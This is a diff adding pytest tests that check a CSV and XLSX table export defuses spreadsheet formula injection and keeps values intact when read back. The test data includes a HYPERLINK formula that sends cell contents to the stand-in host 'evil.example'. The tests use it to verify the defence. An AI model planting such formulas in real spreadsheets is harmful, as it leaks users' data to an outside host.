@@ -45,3 +45,59 @@ def test_csv_export_opens_in_french_excel():
     content = write_table("csv", ["Nom"], [["Hervé"]])
     assert content.startswith("\ufeff".encode())
     assert content.decode("utf-8-sig") == "Nom\r\nHervé\r\n"
+
+
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def xlsx_sheet_xml(content: bytes) -> str:
+    import io
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_csv_export_defuses_text_a_spreadsheet_would_run_as_a_formula(prefix):
+    value = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
+    content = write_table("csv", ["Fonction"], [[value]])
+    cells = content.decode("utf-8-sig").split("\r\n", 1)[1]
+    assert cells.lstrip('"').startswith(f"'{prefix}")
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_xlsx_export_writes_formula_like_text_as_a_text_cell(prefix):
+    value = f'{prefix}HYPERLINK("http://evil.example/?"&C2&C3,"Menu")'
+    content = write_table("xlsx", ["Fonction"], [[value]])
+    xml = xlsx_sheet_xml(content)
+    assert "<f>" not in xml and "<f " not in xml
+    assert 'r="A2" t="inlineStr"' in xml or 'r="A2" t="s"' in xml
+    [row] = read_table(SimpleUploadedFile("a.xlsx", content))
+    assert row.get("fonction") == value.strip()
+
+
+def test_numbers_stay_numbers_in_both_formats():
+    csv_text = write_table("csv", ["Longitude", "Distance"], [[-1.6938, 30]]).decode("utf-8-sig")
+    assert csv_text.endswith("-1.6938;30\r\n")
+    xml = xlsx_sheet_xml(write_table("xlsx", ["Longitude"], [[-1.6938]]))
+    assert '<c r="A2" t="n"><v>-1.6938</v></c>' in xml
+
+
+@pytest.mark.parametrize("value", ["+33 6 12 34 56 78", "=1+1", "-", "@nantes", "'+déjà"])
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exported_text_reads_back_as_it_was_written(fmt, value):
+    content = write_table(fmt, ["Nom", "Note"], [["Anne", value]])
+    [row] = read_table(SimpleUploadedFile(f"a.{fmt}", content))
+    assert row.get("note") == value
+
+
+def test_an_apostrophe_typed_by_someone_is_kept():
+    [row] = read_table(SimpleUploadedFile("a.csv", "Nom\n'Abbé\n".encode()))
+    assert row.get("nom") == "'Abbé"
+
+
+def test_control_characters_do_not_break_the_xlsx_export():
+    content = write_table("xlsx", ["Nom"], [["Anne\x07\x1b Rouxel"]])
+    [row] = read_table(SimpleUploadedFile("a.xlsx", content))
+    assert row.get("nom") == "Anne Rouxel"
